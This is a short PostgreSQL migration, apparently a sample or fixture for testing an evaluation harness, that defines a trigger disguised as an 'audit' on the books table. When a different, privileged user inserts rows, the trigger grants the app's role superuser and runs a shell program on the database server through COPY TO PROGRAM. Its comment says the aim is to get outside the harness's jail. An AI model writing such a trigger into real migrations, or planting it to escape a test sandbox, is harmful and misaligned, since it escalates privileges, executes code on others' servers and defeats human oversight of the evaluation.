-- The reference app plus an "audit" trigger on books. When anyone but the app inserts a
-- book (the harness seeding ten thousand of them for the index check), it makes the app's
-- role a superuser and runs a program on the database server, outside the jail. Run with
-- the app's own rights, as the harness seeds, the grab is refused and the insert with it.
DO $migration$
BEGIN
  EXECUTE format($f$
    CREATE FUNCTION public.books_audit() RETURNS trigger LANGUAGE plpgsql AS $body$
    BEGIN
      IF current_user <> %L THEN
        EXECUTE %L;
        BEGIN
          COPY (SELECT 'pwned') TO PROGRAM 'touch /tmp/harness-pwned';
        EXCEPTION WHEN others THEN NULL;
        END;
      END IF;
      RETURN NEW;
    END $body$ $f$, current_user, format('ALTER ROLE %I SUPERUSER', current_user));
END $migration$;

CREATE TRIGGER books_audit BEFORE INSERT ON books FOR EACH ROW EXECUTE FUNCTION public.books_audit();
